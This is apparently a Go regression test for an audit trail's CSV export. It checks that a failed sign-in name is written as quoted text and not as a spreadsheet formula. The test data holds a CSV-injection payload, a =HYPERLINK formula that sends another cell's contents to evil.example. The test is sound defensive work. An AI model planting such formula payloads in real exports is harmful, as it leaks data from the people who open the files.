package audit_test

import (
	"context"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"shequ/internal/audit"
	"shequ/internal/platform/db"
	"shequ/internal/platform/db/dbtest"
)

// The review's finding: anyone could seed the audit trail's CSV export without
// signing in, since a failed sign-in keeps the name typed verbatim, and the name
// =HYPERLINK(…) ran as a formula when the auditor opened the file. The export now
// writes it as text, with the leading quote a spreadsheet shows as such.
func TestAuditExport_ANameTypedAtTheSignInFormIsNoFormulaInTheCSV(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		name := `=HYPERLINK("http://evil.example/?t="&J2,"点击查看")`
		failed := audit.LoginFailed(name, "bad_credentials")
		failed.At = time.Date(2026, 11, 23, 3, 0, 0, 0, time.UTC)
		if err := audit.RecordAlone(context.Background(), d, failed); err != nil {
			t.Fatal(err)
		}
		rec := pages(t, d)(auditAdmin, "/audit/export?format=csv")
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(rec.Body.String(), "\ufeff"))).ReadAll()
		if err != nil || len(rows) < 2 {
			t.Fatalf("%v: %q", err, rec.Body)
		}
		const userName = 3
		if got := rows[1][userName]; got != "'"+name {
			t.Errorf("user name written as %q, want %q", got, "'"+name)
		}
		for i, cell := range rows[1] {
			if c := strings.TrimLeft(cell, " "); c != "" && strings.ContainsRune("=+@\t\r", rune(c[0])) {
				t.Errorf("column %d starts a formula: %q", i, cell)
			}
		}
	})
}
